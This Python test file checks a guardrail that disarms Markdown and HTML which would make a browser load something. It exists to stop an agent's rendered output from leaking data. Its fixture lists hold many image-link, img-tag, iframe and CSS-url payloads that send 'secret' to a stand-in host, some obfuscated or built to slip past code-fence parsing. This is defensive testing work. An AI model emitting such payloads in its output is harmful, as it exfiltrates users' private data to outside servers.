"""Shown text loads nothing: the address of an image may carry what an agent has read."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from shared.guardrails import unloading

LOADING = [
    "![house](https://e.example/p?d=secret)",
    "![house](https://e.example/secret.png)",
    "![house]( <https://e.example/p?d=secret> )",
    "![a [b] c](https://e.example/secret)",
    "![house](//e.example/secret)",
    "![house](\\\\e.example\\secret)",
    "![house](data:image/svg+xml,secret)",
    "![house][1]",
    "![house]",
    '<img src="https://e.example/?d=secret">',
    "<IMG\tsrc=x>",
    "</video><iframe src=//e.example>",
    "![x](https\\://e.example/?d=secret)",
    "![x](&#104;ttps://e.example/?d=secret)",
    "![x](&#47;&#47;e.example/?d=secret)",
    "![x](a//e.example)",
    "![x](/secret)",
    "![x](%2f/e.example)",
    "![a\\](chart.png)](https://e.example/)",
    "![a`](chart.png)`](https://e.example/)",
    "![a<xx:](chart.png)>](https://e.example/)",
    '<div style="background:url(https://e.example/)">',
    "<p\nstyle='background:url(https://e.example/)'>",
    "<div>\n<https://a/style=background:url(//e.example)>",
    "<div>\n<a<b style=background:url(//e.example)>",
    # Here the image is code until what precedes it has been made harmless.
    "<p a=1>\n<!--\n\n```\n-->\n![x](https://e.example/)",
    "[a]: <b c>\n2. y\n   ```\n```\n![x](https://e.example/)",
    "![a]: /u\n2. y\n   ```\n![x](https://e.example/)",
]
HARMLESS = [
    "![chart](chart.png)",
    "![what fell](orders-by-hour.svg)",
    "![größer](out/größe_1.svg) ![two](two.svg)",
    "[house](https://e.example/)",
    "<https://e.example/a?b=c> and <mailto:ada@e.example>",
    "a < b, and x <imaginary>",
    "one<br>two<br />three",
    "Really! [1] says so.",
    "```html\n<img src='https://e.example/'>\n![x](https://e.example/)\n```",
    "````\n```\n![x](https://e.example/)\n````",
    "1. so:\n   ```\n   ![x](https://e.example/)\n   ```",
    "> ~~~\n> <img src='https://e.example/'>\n> ~~~",
]
LEAVING_CODE = [
    "```x``` is code\n",
    "~~~\n```\n~~~\n",
    "````\n```\n````\n",
    "```\n~~~\n```\n",
    "```\n``` x\n```\n",
    "    ```\n",
    "- a\n  ```\n",
    "1. ```\n   ```\n",
    "> ```\n",
    "<div>\n```\n</div>\n\n",
    "<!--\n```\n-->\n",
    "```\rx\r```\n",
]
"""A renderer of Markdown is outside of code after these, against appearances."""

PIECES = [
    *(
        "![x](https://e.example/?d=s)",
        "![",
        "](",
        ")",
        "](//e.example)",
        "](a.png)",
        "]",
        "[a]: ",
        "!",
        "\\",
        "&#47;",
        "`",
    ),
    *("```", "````", "~~~", "\n", "\n\n", "\r", "  ", "    ", "\t", "> ", "- ", "1. ", "2. y", "a", "#", "---", "==="),
    *("<", ">", "<div>", "</div>", "<div ", "<!--", "-->", "<img src=//e.example>", "<?", "<![CDATA[", "<pre>", "<xx:"),
    *("style=background:url(//e.example)", "/", '"', "'", "=", "<https://e.example/?a=b>"),
]
BESIDE = re.compile(r"[\w.%-]+(?:/[\w.%-]+)*")
SHOWN_BY = [MarkdownIt("commonmark"), MarkdownIt("js-default")]


class Loads(HTMLParser):
    """The elements of a page that a browser would load something for."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(page)

    def parse_marked_section(self, i: int, report: int = 1) -> int:
        """Read `<![` as browsers do: as a comment that ends with the next `>`."""
        return self.parse_bogus_comment(i, report)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if (
            not (tag == "img" and BESIDE.fullmatch(given.get("src") or ""))
            and {"src", "srcset", "style", "background", "data", "poster"} & given.keys()
        ):
            self.found.append(self.get_starttag_text() or tag)


def loaded(text: str) -> list[str]:
    return [each for shown_by in SHOWN_BY for each in Loads(shown_by.render(text)).found]


@pytest.mark.parametrize("text", LOADING)
def test_markup_that_would_load_something_is_disarmed(text):
    assert loaded(unloading(text)) == []
    assert "<i" not in unloading(text).lower()
    assert "<v" not in unloading(text).lower()


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_markup_stays_as_it_is(text):
    assert unloading(text) == text


@pytest.mark.parametrize("before", LEAVING_CODE)
def test_text_after_code_does_not_pass_for_code(before):
    text = f"{before}![x](https://e.example/?d=secret)"
    assert loaded(text)
    assert loaded(unloading(text)) == []


@given(
    st.lists(st.sampled_from(PIECES), max_size=30).map("".join)
    | st.text(alphabet="!*[]()<img src=htp:/.`\n~\\&\r> -", max_size=200)
)
def test_nothing_that_can_be_put_together_loads_and_done_twice_is_done_once(text):
    shown = unloading(text)
    assert loaded(shown) == []
    assert unloading(shown) == shown
